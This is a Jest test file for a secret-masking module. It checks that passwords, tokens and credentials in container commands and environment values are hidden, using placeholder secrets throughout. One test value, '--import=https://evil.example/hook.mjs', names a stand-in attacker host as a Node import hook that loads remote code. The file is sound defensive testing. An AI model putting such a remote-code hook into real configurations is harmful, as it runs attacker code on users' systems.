import { describe, expect, it, test } from '@jest/globals';
import fc from 'fast-check';
import { shownCommand, shownValue } from '../../src/image-diff/shown-values.js';
import { maskText } from '../../src/secrets/mask-text.js';

const TOKEN = 'wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY';

test.each([
  [['app', '{"password":"Zeta-7"}']],
  [['curl', '-b', 'session=Zeta-7']],
  [['app', '/password:Zeta-7']],
  [['app', 'password:Zeta-7']],
  [['app', '--pw', 'Zeta-7']],
  [['app', '--pw', 'Zeta']],
  [['mysqld', '--init-command=SET PASSWORD FOR root=Zeta-7']],
  [['sh', '-c', 'exec app --any Zeta-7']],
  [['app', '--any', 'a,Zeta-7']],
  [['app', 'Driver=x;Any=Zeta-7']],
])('the value of any option is hidden unless it is of plain form: %j', (words) => {
  expect(shownCommand(words, maskText).join(' ')).not.toContain('Zeta');
});

describe('the value of a variable that decides which code runs', () => {
  test.each([
    '/usr/local/sbin:/usr/bin:/opt/java-17-openjdk-amd64/bin',
    'libjemalloc.so.2',
    '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 /opt/x.so',
    '--max-old-space-size=4096 --require /opt/agent.js',
    '--import tsx',
    '--require=dd-trace/init',
    '-javaagent:/opt/agent/opentelemetry-javaagent.jar',
    '-Xmx512m -XX:MaxRAMPercentage=75.0 -XX:+UseParallelGC',
    '-Dlog4j.configurationFile=/etc/log4j2.xml',
    '-W0 -rbundler/setup',
    '/app/node_modules/.bin:$PATH:~/go/bin',
    './node_modules/.bin:/usr/lib/python3.12/site-packages',
    '--import=https://evil.example/hook.mjs',
  ])('is shown of %j', (value) => {
    expect(shownValue(value, maskText)).toBe(value);
  });

  test.each([
    [`--require=${TOKEN}`, '--require=…'],
    [`/opt/${TOKEN}/x.so`, '…'],
    [`/usr/bin:${TOKEN}`, '/usr/bin:…'],
    ['hunter2', '…'],
    ['--password=hunter2', '--password=…'],
    ['-phunter2', '…'],
    ['-Ddb.user=hunter2', '-Ddb.user=…'],
    ['-javaagent:/opt/agent.jar=token=hunter2,host=a', '-javaagent:/opt/agent.jar=…=…,…=…'],
    [
      '--import=https://me:hunter2@example.com/a.mjs?t=hunter2',
      '--import=https://me:…@example.com/a.mjs?…=…',
    ],
    ['/nix/store/9krlzvny65gdc8s7kpb6lkx8cd02c25b-bash/bin', '…'],
  ])('is hidden in %j', (value, expected) => {
    const shown = shownValue(value, maskText);
    expect(shown).not.toContain('hunter2');
    expect(shown).toBe(expected);
  });

  it('is the same when it is shown again, and has no random text', () => {
    const hex = fc.string({
      unit: fc.constantFrom(...'0123456789abcdef'),
      minLength: 24,
      maxLength: 64,
    });
    const random = hex.filter((text) => /\d[a-f]+\d/.test(text));
    const frame = fc.constantFrom(
      '',
      '/opt/',
      '--require=',
      '-Dx=',
      '--require ',
      '/usr/bin:',
      'a.so ',
    );
    fc.assert(
      fc.property(frame, random, frame, (before, token, after) => {
        const shown = shownValue(`${before}${token}${after}`, maskText);
        expect(shown).not.toContain(token);
        expect(shownValue(shown, maskText)).toBe(shown);
      }),
    );
  });
});

describe('the words of a command', () => {
  test.each([
    [['node', 'server.js', '--port', '8080']],
    [['docker-entrypoint.sh', 'postgres']],
    [['java', '-jar', '/app.jar', '-Xmx512m', 'org.springframework.boot.loader.JarLauncher']],
    [['psql', '-p', '5432']],
    [['app', '-port=80', '-path', '/srv', '-pretty']],
    [['/bin/sh', '-c', 'mkdir -p data && exec java $JAVA_TOOL_OPTIONS -p 8080:80']],
    [['nginx', '-g', 'daemon off;']],
    [['app', '--keyfile=/etc/app/tls.key', '--no-auth', 'run']],
    [['uvicorn', 'app.main:app', '--proxy-headers', '--host', '0.0.0.0']],
    [['curl', '-f', 'http://localhost:8080/healthz?full=1']],
    [['cosign', 'verify', 'ghcr.io/o/app:1@sha256:0123']],
    [['app', '--pinned', 'yes', 'MODE=fast', '--license', './LICENSE.txt']],
  ])('are shown of %j', (words) => {
    expect(shownCommand(words, maskText)).toEqual(words);
  });

  test.each([
    [
      ['mysql', '-phunter2'],
      ['mysql', '-p…'],
    ],
    [
      ['start', '-Phunter2', 'x'],
      ['start', '-P…', 'x'],
    ],
    [
      ['start', '-p', 'hunter2'],
      ['start', '-p', '…'],
    ],
    [
      ['start', '--auth=me:hunter2'],
      ['start', '--auth=…'],
    ],
    [
      ['redis-server', '--requirepass', 'hunter2'],
      ['redis-server', '--requirepass', '…'],
    ],
    [
      ['redis-server', '--requirepass', '123456'],
      ['redis-server', '--requirepass', '…'],
    ],
    [
      ['start', '-storepass', 'hunter2'],
      ['start', '-storepass', '…'],
    ],
    [
      ['start', TOKEN],
      ['start', '…'],
    ],
    [
      ['start', `--id=${TOKEN}`],
      ['start', '--id=…'],
    ],
    [
      ['start', 'redis://:hunter2@cache:6379'],
      ['start', 'redis://:…@cache:6379'],
    ],
    [
      ['sh', '-c', 'app -phunter2'],
      ['sh', '-c', 'app -p…'],
    ],
    [
      ['app', '--dsn', 'host=db password=hunter2', '-P', 'x'],
      ['app', '--dsn', '…', '-P', '…'],
    ],
    [
      ['app', '--password=my hunter2', 'PASS=your hunter2'],
      ['app', '--password=…', 'PASS=…'],
    ],
    [
      ['app', 'root:hunter2@tcp(db:3306)/x'],
      ['app', 'root:…@tcp(db:3306)/x'],
    ],
    [
      ['app', 'https://maps.example/x?key=hunter2&zoom=3&sig=b1'],
      ['app', 'https://maps.example/x?key=…&zoom=3&sig=…'],
    ],
    [
      ['app', '--hook', 'https://hooks.slack.com/services/T0/B0/hunter2'],
      ['app', '--hook', 'https://hooks.slack.com/…'],
    ],
    [
      ['app', '--cred', 'admin/hunter2'],
      ['app', '--cred', '…'],
    ],
    [
      ['app', '--pin', '1234', '--license', 'hunter2'],
      ['app', '--pin', '…', '--license', '…'],
    ],
    [
      ['sh', '-c', 'PASS1=hunter2; openssl enc -k hunter2; run'],
      ['sh', '-c', 'PASS1=…; openssl enc -k …; run'],
    ],
    [
      ['java', '-Dspring.datasource.password=hunter2'],
      ['java', '-Dspring.datasource.password=…'],
    ],
    [
      ['mysql', '-P', 'hunter2'],
      ['mysql', '-P', '…'],
    ],
    [
      ['app', 'DB_PASSWORD=hunter2', '-e', 'API_KEY=hunter2'],
      ['app', 'DB_PASSWORD=…', '-e', 'API_KEY=…'],
    ],
    [
      ['sh', '-c', `${'a '.repeat(2500)} --password hunter2`, 'x'],
      ['sh', '-c', '…'],
    ],
  ])('are hidden in %j', (words, expected) => {
    expect(shownCommand(words, maskText)).toEqual(expected);
    expect(shownCommand(expected, maskText)).toEqual(expected);
    expect(maskText(JSON.stringify(expected))).toBe(JSON.stringify(expected));
  });
});
